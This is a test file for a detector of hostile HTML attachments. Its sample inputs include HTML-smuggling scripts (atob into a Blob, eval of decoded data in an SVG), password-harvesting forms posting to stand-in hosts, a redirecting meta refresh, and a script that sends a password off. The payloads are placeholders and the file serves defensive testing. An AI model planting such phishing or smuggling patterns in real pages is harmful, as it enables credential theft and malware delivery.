import { expect, test } from 'vitest'
import { carrying, zipped } from '../files/testing.ts'
import { sightings } from '../testing.ts'
import detector from './attachment-html.ts'

const PACKED = 'QUJD'.repeat(600)
const ATTACKS: [string, string, RegExp][] = [
  [
    'a page that builds a file',
    carrying('a.html', `<script>var b=atob('${PACKED}');var u=URL.createObjectURL(new Blob([b]))</script>`),
    /unpacks/,
  ],
  [
    'a page that writes a page',
    carrying('a.htm', `<html><script>document.write(unescape('%3Cform%3E'))</script>`),
    /unpacks/,
  ],
  [
    'a page that frames a hidden address',
    carrying(
      'a.html',
      `<script>f.src=atob('aHR0cHM6Ly90aGluZy5pbnZhbGlk');document.body.appendChild(f)</script>`,
    ),
    /unpacks/,
  ],
  [
    'a page in strips',
    carrying(
      'a.html',
      `<script>p=[${`'${'QUJD'.repeat(9)}',`.repeat(12)}''];box.innerHTML=atob(p.join(''))</script>`,
    ),
    /unpacks/,
  ],
  [
    'a drawing that does',
    carrying('a.svg', `<svg xmlns="x"><script>eval(atob('${PACKED}'))</script></svg>`),
    /unpacks/,
  ],
  [
    'a form for a password',
    carrying('a.html', '<form action="https://thing.invalid"><input type="password"></form>'),
    /password/,
  ],
  [
    'a page that leaves',
    carrying('a.html', '<meta http-equiv="refresh" content="0;url=https://thing.invalid">'),
    /sends the reader on/,
  ],
  ['a page with a script', carrying('a.html', '<html><script>go()</script>'), /runs a script/],
  [
    'inside an archive',
    carrying('a.zip', await zipped({ 'a.html': '<input type=password>' })),
    /field for a password/,
  ],
  [
    'a script that sends the password',
    carrying('a.html', '<input type=password><script>fetch(u)</script>'),
    /sends it off/,
  ],
  [
    'a saved sign-in page',
    carrying(
      'a.html',
      '<!-- saved from url=(0030)https://x.example/ --><form action="https://x.example/s"><input type=password></form>',
    ),
    /field for/,
  ],
]
const WEAK: [string, string][] = [
  [
    'a report with ordinary scripts',
    `<script>q=decodeURIComponent(location.search);box.innerHTML=q;setTimeout('go()',1)</script><h1>Report</h1>`,
  ],
  [
    'a chart with a picture inside',
    `<img src="data:image/png;base64,${PACKED}"><script>parseInt(c, 16);document.body.appendChild(svg)</script>`,
  ],
  [
    'an envelope that opens with the reader’s own password',
    `<input type="password"><script>var d="${PACKED}";page.innerHTML=CryptoJS.AES.decrypt(d,pw.value)</script>`,
  ],
]
test.each(WEAK)('needs something beside it: %s', async (_, page) => {
  const found = await sightings(detector, carrying('a.html', page))
  expect(found.map(({ strength, weight }) => [strength, weight])).toEqual([['strong', 3.5]])
})

const INNOCENT: [string, string][] = [
  ['a PDF', carrying('a.pdf', '%PDF-1.7')],
  ['a text', carrying('a.txt', 'we use atob( and document.write')],
  ['a picture', carrying('a.png', '\x89PNG\r\n\x1a\n')],
]
test('a saved page is context only', async () => {
  const raw = carrying('a.html', '<html><h1>Report</h1></html>')
  expect((await sightings(detector, raw)).map((finding) => finding.strength)).toEqual(['context'])
})

test.each(ATTACKS)('sees: %s', async (_, raw, title) => {
  const findings = await sightings(detector, raw)
  expect(findings.map((finding) => finding.title).join()).toMatch(title)
})

test.each(INNOCENT)('leaves alone: %s', async (_, raw) => {
  expect(await sightings(detector, raw)).toEqual([])
})
